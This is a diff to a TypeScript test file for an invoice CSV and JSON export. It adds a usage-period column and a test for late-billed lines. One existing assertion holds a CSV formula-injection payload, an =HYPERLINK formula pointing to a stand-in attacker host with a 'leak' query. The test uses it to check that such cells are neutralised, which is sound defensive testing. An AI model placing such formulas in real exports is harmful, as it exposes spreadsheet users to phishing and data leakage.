@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { invoiceCsv } from "./invoice-export.js";
+import { invoiceCsv, invoiceDocument } from "./invoice-export.js";
 import type { Invoice, InvoiceLine } from "./invoices.js";
 
 const invoice: Invoice = {
@@ -31,7 +31,8 @@ const invoice: Invoice = {
   buyer: null,
 };
 
-const line = (model: string): InvoiceLine => ({
+const line = (model: string, usagePeriod = "2026-11"): InvoiceLine => ({
+  usagePeriod,
   model,
   requests: 3n,
   promptTokens: 10n,
@@ -50,7 +51,19 @@ test("an invoice CSV neutralises formula cells (usage recorded before model name
   const rows = csv.trimEnd().split("\n");
   assert.ok(rows[1]?.includes(`,"'=HYPERLINK(""https://evil.example/?leak"",""Pay here"")",`), rows[1]);
   assert.ok(rows[2]?.includes(`,"'@SUM(A1:A9)",`), rows[2]);
-  assert.ok(rows[3]?.includes(",usage,llama-70b,3,10,0,5,,6.25"), rows[3]);
+  assert.ok(rows[3]?.includes(",usage,llama-70b,3,10,0,5,,6.25,2026-11"), rows[3]);
   // No cell anywhere starts with a formula character unless it is a quoted, quote-prefixed one.
   for (const row of rows) for (const cell of row.split(",")) assert.doesNotMatch(cell, /^[=+@\t\r]/);
+});
+
+test("a late line says in the CSV and the JSON which month's usage it bills", () => {
+  const lines = [line("llama-70b"), line("llama-70b", "2026-10")];
+  const rows = invoiceCsv(invoice, lines).trimEnd().split("\n");
+  assert.ok(rows[0]?.endsWith(",amount_eur,usage_period"), rows[0]);
+  assert.ok(rows[2]?.endsWith(",usage,llama-70b,3,10,0,5,,6.25,2026-10"), rows[2]);
+  const document = invoiceDocument(invoice, lines) as { lines: { usagePeriod: string }[] };
+  assert.deepEqual(
+    document.lines.map((l) => l.usagePeriod),
+    ["2026-11", "2026-10"],
+  );
 });
